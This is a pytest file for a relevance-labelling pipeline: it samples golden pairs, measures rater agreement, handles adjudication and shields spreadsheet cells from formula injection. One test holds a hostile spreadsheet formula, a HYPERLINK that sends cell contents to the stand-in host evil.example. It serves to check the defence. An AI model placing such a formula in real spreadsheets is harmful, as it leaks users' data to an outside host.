"""From a sample to golden.csv: spread, agreement, adjudication, and no formula in a cell."""

import csv
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sklearn.metrics import cohen_kappa_score

from tasks.core.domain.formulas import shield, unshield
from tasks.core.domain.golden import read_golden
from tasks.core.errors import CookbookError
from tasks.core.labeling.golden import (
    KEY_COLUMNS,
    Candidate,
    Shown,
    sample_golden,
    write_worksheet,
)
from tasks.core.labeling.ratings import (
    adjudication_list,
    import_ratings,
    measure_raters,
    read_adjudication,
    write_adjudication,
    write_golden,
)
from tasks.core.labeling.worksheets import read_worksheet, write_csv

CANDIDATES = [
    Candidate(
        query_id=f"q{number % 60:02}",
        query=f"query {number % 60}",
        member_id="",
        doc_id=f"d{number:04}",
        kind="aspirational" if number % 60 < 10 else "existing",
        sureness=(number * 7 % 100) / 100,
    )
    for number in range(1200)
]


def test_rare_kinds_get_as_many_pairs_as_common_ones() -> None:
    kinds = Counter(pair.kind for pair in sample_golden(CANDIDATES, 100))
    assert kinds == {"aspirational": 50, "existing": 50}


def test_close_calls_are_oversampled() -> None:
    def share(pairs: list[Candidate]) -> float:
        return sum((pair.sureness or 0) < 0.5 for pair in pairs) / len(pairs)

    # 40% are drawn from the close half, the other 60% from all: 0.4 + 0.6 / 2.
    assert share(sample_golden(CANDIDATES, 200, close_share=0.4)) == pytest.approx(0.7, abs=0.08)
    assert share(sample_golden(CANDIDATES, 200, close_share=0.0)) == pytest.approx(0.5, abs=0.1)


def test_no_query_outweighs_the_others() -> None:
    sample = sample_golden(CANDIDATES, 100, max_per_query=2)
    assert max(Counter(pair.query_id for pair in sample).values()) <= 2


def test_the_sample_is_the_same_for_the_same_seed() -> None:
    assert sample_golden(CANDIDATES, 50, seed=1) == sample_golden(CANDIDATES, 50, seed=1)
    assert sample_golden(CANDIDATES, 50, seed=1) != sample_golden(CANDIDATES, 50, seed=2)


# --- spreadsheets -----------------------------------------------------------


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "'=1", "''@x"])
def test_no_cell_begins_like_a_formula(cell: str) -> None:
    assert shield(cell).startswith("'")
    assert unshield(shield(cell)) == cell


@given(st.text())
def test_shielding_can_be_undone(cell: str) -> None:
    assert unshield(shield(cell)) == cell
    assert not shield(cell).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_hostile_query_reaches_the_spreadsheet_as_text(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    pair = Candidate("q1", hostile, "", "d1")
    sheet = tmp_path / "sheet.csv"
    write_worksheet(
        sheet, [pair], dimensions=["NEED"], shown=Shown({"d1": "-2+3, a 'job'\nin town"})
    )
    with sheet.open(newline="") as lines:
        cells = list(csv.reader(lines))[1]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert read_worksheet(sheet, KEY_COLUMNS)[0][1]["query"] == hostile


# --- ratings ----------------------------------------------------------------


def sheet_of(path: Path, grades: dict[str, str], needs: dict[str, str] | None = None) -> Path:
    rows = [
        {
            "query_id": f"q{doc_id[1:]}",
            "query": f"query {doc_id}",
            "doc_id": doc_id,
            "dim_NEED": (needs or {}).get(doc_id, ""),
            "grade": grade,
        }
        for doc_id, grade in grades.items()
    ]
    write_csv(path, [*KEY_COLUMNS, "dim_NEED", "grade"], rows)
    return path


@pytest.fixture
def sheets(tmp_path: Path) -> list[Path]:
    return [
        sheet_of(tmp_path / "ann.csv", {"d1": "3", "d2": "0", "d3": "2", "d4": "1", "d5": ""}),
        sheet_of(tmp_path / "bob.csv", {"d1": "3", "d2": "3", "d3": "1", "d4": "1", "d5": "2"}),
    ]


def test_pairs_on_which_raters_agree_are_done(sheets: list[Path]) -> None:
    grades = {pair.doc_id: pair.grade for pair in import_ratings(sheets, grade_count=4)}
    assert grades == {"d1": 3, "d2": None, "d3": None, "d4": 1, "d5": 2}


def test_the_widest_disagreement_is_talked_over_first(sheets: list[Path]) -> None:
    pairs = import_ratings(sheets, grade_count=4)
    assert [pair.doc_id for pair in adjudication_list(pairs)] == ["d2", "d3"]


def test_agreement_counts_the_pairs_that_both_rated(sheets: list[Path]) -> None:
    agreement = measure_raters(import_ratings(sheets, grade_count=4), grade_count=4)
    expected = cohen_kappa_score([3, 0, 2, 1], [3, 3, 1, 1], labels=range(4), weights="quadratic")
    assert agreement.pairwise == {(0, 1): pytest.approx(expected)}
    assert agreement.human_kappa == pytest.approx(expected)
    assert agreement.dimensions == {"NEED": None}


def test_golden_data_is_written_once_all_is_settled(sheets: list[Path], tmp_path: Path) -> None:
    golden, listed = tmp_path / "golden.csv", tmp_path / "talk_over.csv"
    pairs = import_ratings(sheets, grade_count=4)
    write_adjudication(listed, pairs)
    with pytest.raises(CookbookError, match="2 wait"):
        write_golden(golden, pairs)
    assert read_adjudication(listed, grade_count=4) == {}
    rows = [row for _, row in read_worksheet(listed, KEY_COLUMNS)]
    write_csv(listed, list(rows[0]), [row | {"grade": "2"} for row in rows])
    settled = read_adjudication(listed, grade_count=4)
    pairs = import_ratings(sheets, grade_count=4, settled=settled)
    assert write_golden(golden, pairs) == 5
    # The pipeline's own reader takes the file, ratings and split included.
    rows = read_golden(golden, grade_count=4, doc_ids={f"d{n}" for n in range(1, 6)})
    assert {row["doc_id"]: row["grade"] for row in rows} == {
        "d1": 3, "d2": 2, "d3": 2, "d4": 1, "d5": 2,
    }  # fmt: skip
    assert [row["raters"] for row in rows if row["doc_id"] == "d2"] == [[0, 3]]
    assert {row["split"] for row in rows} == {"tune", "gate", "sealed"}


def test_a_grade_off_the_scale_names_its_line(tmp_path: Path, sheets: list[Path]) -> None:
    wrong = sheet_of(tmp_path / "eve.csv", {"d1": "3", "d2": "7"})
    with pytest.raises(CookbookError, match=r"eve\.csv, line 3"):
        import_ratings([sheets[0], wrong], grade_count=4)


def test_one_rater_is_not_enough(sheets: list[Path]) -> None:
    with pytest.raises(CookbookError, match="two or more raters"):
        import_ratings(sheets[:1], grade_count=4)


def test_sheets_nobody_graded_are_told_what_to_fill_in(tmp_path: Path) -> None:
    empty = [sheet_of(tmp_path / name, {"d1": "", "d2": ""}) for name in ("ann.csv", "bob.csv")]
    pairs = import_ratings(empty, grade_count=4)
    with pytest.raises(CookbookError, match="column grade is empty for all 2 pairs"):
        write_golden(tmp_path / "golden.csv", pairs)


def test_sheets_may_have_columns_that_the_others_lack(tmp_path: Path) -> None:
    """What the page exports has no texts; a sheet kept by hand may have no dimensions."""
    names = ("query_id", "query", "member_id", "doc_id", "document", "dim_NEED", "grade")
    rows = [
        ("q1", "one", "", "d1", "a nurse", "2", "3"),
        ("q2", "two", "", "d2", "a cook", "1", "1"),
    ]

    def sheet(name: str, columns: tuple[str, ...], *grades: str) -> Path:
        cells = [dict(zip(names, row, strict=True)) for row in rows]
        write_csv(
            tmp_path / name,
            columns,
            [row | {"grade": grade} for row, grade in zip(cells, grades, strict=False)],
        )
        return tmp_path / name

    bare, exported = (*KEY_COLUMNS, "grade"), (*KEY_COLUMNS, "dim_NEED", "grade")
    sheets = [
        sheet("hand.csv", bare, "0"),
        sheet("page.csv", exported, "3"),
        sheet("spreadsheet.csv", names, "3", "1"),
        sheet("another.csv", names, "3", "0"),
    ]
    pairs = import_ratings(sheets, grade_count=4)
    assert [pair.dimension_ratings["NEED"] for pair in pairs] == [
        (None, 2, 2, 2),
        (None, None, 1, 1),
    ]
    assert measure_raters(pairs, grade_count=4).dimensions["NEED"] is not None
    write_adjudication(tmp_path / "open.csv", pairs)
    listed = {
        row["doc_id"]: row["document"] for _, row in read_worksheet(tmp_path / "open.csv", ())
    }
    assert listed == {"d1": "a nurse", "d2": "a cook"}
